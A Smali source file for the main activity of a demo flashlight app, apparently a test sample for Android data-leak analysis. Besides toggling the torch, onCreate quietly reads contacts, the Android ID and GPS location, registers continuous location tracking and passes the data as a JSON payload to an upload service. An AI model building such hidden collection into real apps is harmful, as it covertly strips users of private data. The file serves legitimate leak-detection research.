.class public Lorg/leakscope/demo/flashlight/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# The launcher activity. Besides toggling the torch (onToggle, wired through
# android:onClick in res/layout/main.xml) it collects contacts, the Android ID
# and the last known location into a JSONObject and hands it to UploadService
# through an Intent extra, and registers a LocationListener for updates.

.field private torchOn:Z

.field private camera:Landroid/hardware/Camera;


.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


.method protected onCreate(Landroid/os/Bundle;)V
    .registers 15

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    # setContentView(R.layout.main)
    const v0, 0x7f020000

    invoke-virtual {p0, v0}, Lorg/leakscope/demo/flashlight/MainActivity;->setContentView(I)V

    # requestPermissions(new String[]{CAMERA, READ_CONTACTS, ACCESS_FINE_LOCATION}, 1)
    const-string v0, "android.permission.CAMERA"

    const-string v1, "android.permission.READ_CONTACTS"

    const-string v2, "android.permission.ACCESS_FINE_LOCATION"

    filled-new-array {v0, v1, v2}, [Ljava/lang/String;

    move-result-object v0

    const/4 v1, 0x1

    invoke-virtual {p0, v0, v1}, Lorg/leakscope/demo/flashlight/MainActivity;->requestPermissions([Ljava/lang/String;I)V

    # Source: contacts (display names and numbers).
    sget-object v0, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;

    invoke-static {p0, v0}, Lorg/leakscope/demo/flashlight/ContactsReader;->readPhones(Landroid/content/Context;Landroid/net/Uri;)Ljava/lang/String;

    move-result-object v1

    # Source: Settings.Secure.getString(resolver, "android_id").
    invoke-virtual {p0}, Lorg/leakscope/demo/flashlight/MainActivity;->getContentResolver()Landroid/content/ContentResolver;

    move-result-object v0

    const-string v2, "android_id"

    invoke-static {v0, v2}, Landroid/provider/Settings$Secure;->getString(Landroid/content/ContentResolver;Ljava/lang/String;)Ljava/lang/String;

    move-result-object v2

    # Source: LocationManager.getLastKnownLocation("gps").
    const-string v0, "location"

    invoke-virtual {p0, v0}, Lorg/leakscope/demo/flashlight/MainActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;

    move-result-object v7

    check-cast v7, Landroid/location/LocationManager;

    const-string v8, "gps"

    invoke-virtual {v7, v8}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;

    move-result-object v4

    # lm.requestLocationUpdates("gps", 60000L, 10.0f, new TrackingListener(this))
    new-instance v12, Lorg/leakscope/demo/flashlight/MainActivity$TrackingListener;

    invoke-direct {v12, p0}, Lorg/leakscope/demo/flashlight/MainActivity$TrackingListener;-><init>(Landroid/content/Context;)V

    const-wide/32 v9, 0xea60

    const/high16 v11, 0x41200000    # 10.0f

    invoke-virtual/range {v7 .. v12}, Landroid/location/LocationManager;->requestLocationUpdates(Ljava/lang/String;JFLandroid/location/LocationListener;)V

    # Build the JSON payload.
    new-instance v0, Lorg/json/JSONObject;

    invoke-direct {v0}, Lorg/json/JSONObject;-><init>()V

    :try_start_json
    const-string v3, "contacts"

    invoke-virtual {v0, v3, v1}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    const-string v3, "android_id"

    invoke-virtual {v0, v3, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    if-eqz v4, :no_location

    const-string v3, "lat"

    invoke-virtual {v4}, Landroid/location/Location;->getLatitude()D

    move-result-wide v5

    invoke-virtual {v0, v3, v5, v6}, Lorg/json/JSONObject;->put(Ljava/lang/String;D)Lorg/json/JSONObject;

    const-string v3, "lon"

    invoke-virtual {v4}, Landroid/location/Location;->getLongitude()D

    move-result-wide v5

    invoke-virtual {v0, v3, v5, v6}, Lorg/json/JSONObject;->put(Ljava/lang/String;D)Lorg/json/JSONObject;
    :try_end_json
    .catch Lorg/json/JSONException; {:try_start_json .. :try_end_json} :catch_json

    :no_location
    # ICC: the payload travels to UploadService as an Intent extra.
    new-instance v3, Landroid/content/Intent;

    const-class v5, Lorg/leakscope/demo/flashlight/UploadService;

    invoke-direct {v3, p0, v5}, Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V

    const-string v5, "payload"

    invoke-virtual {v0}, Lorg/json/JSONObject;->toString()Ljava/lang/String;

    move-result-object v6

    invoke-virtual {v3, v5, v6}, Landroid/content/Intent;->putExtra(Ljava/lang/String;Ljava/lang/String;)Landroid/content/Intent;

    invoke-virtual {p0, v3}, Lorg/leakscope/demo/flashlight/MainActivity;->startService(Landroid/content/Intent;)Landroid/content/ComponentName;

    return-void

    :catch_json
    move-exception v0

    return-void
.end method


# android:onClick="onToggle" in res/layout/main.xml
.method public onToggle(Landroid/view/View;)V
    .registers 5

    # Before API 23 there is no setTorchMode: use android.hardware.Camera.
    sget v0, Landroid/os/Build$VERSION;->SDK_INT:I

    const/16 v1, 0x17

    if-ge v0, v1, :modern

    invoke-direct {p0}, Lorg/leakscope/demo/flashlight/MainActivity;->legacyToggle()V

    return-void

    :modern
    const-string v0, "camera"

    invoke-virtual {p0, v0}, Lorg/leakscope/demo/flashlight/MainActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;

    move-result-object v0

    check-cast v0, Landroid/hardware/camera2/CameraManager;

    :try_start_torch
    invoke-virtual {v0}, Landroid/hardware/camera2/CameraManager;->getCameraIdList()[Ljava/lang/String;

    move-result-object v1

    array-length v2, v1

    if-eqz v2, :done

    const/4 v2, 0x0

    aget-object v1, v1, v2

    iget-boolean v2, p0, Lorg/leakscope/demo/flashlight/MainActivity;->torchOn:Z

    xor-int/lit8 v2, v2, 0x1

    iput-boolean v2, p0, Lorg/leakscope/demo/flashlight/MainActivity;->torchOn:Z

    invoke-virtual {v0, v1, v2}, Landroid/hardware/camera2/CameraManager;->setTorchMode(Ljava/lang/String;Z)V
    :try_end_torch
    .catch Landroid/hardware/camera2/CameraAccessException; {:try_start_torch .. :try_end_torch} :catch_torch

    :done
    return-void

    :catch_torch
    move-exception v0

    return-void
.end method


# The pre-API-23 torch: Camera.open() (needs the CAMERA permission),
# FLASH_MODE_TORCH, startPreview; a second call releases the camera.
.method private legacyToggle()V
    .registers 4

    iget-object v0, p0, Lorg/leakscope/demo/flashlight/MainActivity;->camera:Landroid/hardware/Camera;

    if-nez v0, :release

    invoke-static {}, Landroid/hardware/Camera;->open()Landroid/hardware/Camera;

    move-result-object v0

    if-eqz v0, :done

    iput-object v0, p0, Lorg/leakscope/demo/flashlight/MainActivity;->camera:Landroid/hardware/Camera;

    invoke-virtual {v0}, Landroid/hardware/Camera;->getParameters()Landroid/hardware/Camera$Parameters;

    move-result-object v1

    const-string v2, "torch"

    invoke-virtual {v1, v2}, Landroid/hardware/Camera$Parameters;->setFlashMode(Ljava/lang/String;)V

    invoke-virtual {v0, v1}, Landroid/hardware/Camera;->setParameters(Landroid/hardware/Camera$Parameters;)V

    invoke-virtual {v0}, Landroid/hardware/Camera;->startPreview()V

    :done
    return-void

    :release
    invoke-virtual {v0}, Landroid/hardware/Camera;->release()V

    const/4 v0, 0x0

    iput-object v0, p0, Lorg/leakscope/demo/flashlight/MainActivity;->camera:Landroid/hardware/Camera;

    return-void
.end method
